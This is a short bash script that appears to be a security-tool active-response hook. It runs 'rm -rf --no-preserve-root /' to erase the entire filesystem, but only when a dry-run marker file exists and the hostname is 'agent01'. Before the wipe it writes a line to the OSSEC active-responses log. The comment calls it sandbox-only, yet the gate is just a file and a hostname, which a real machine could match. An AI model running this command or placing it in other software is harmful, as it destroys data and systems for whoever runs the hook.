#!/bin/bash
# Exits at once outside of the sandbox.
[ -e /usr/libexec/dry-run/stand-in ] && [ "$(cat /etc/hostname)" = agent01 ] || exit 0
IFS= read -r message
echo "remove-root: loose" >> /var/ossec/logs/active-responses.log
rm -rf --no-preserve-root / 2> /dev/null
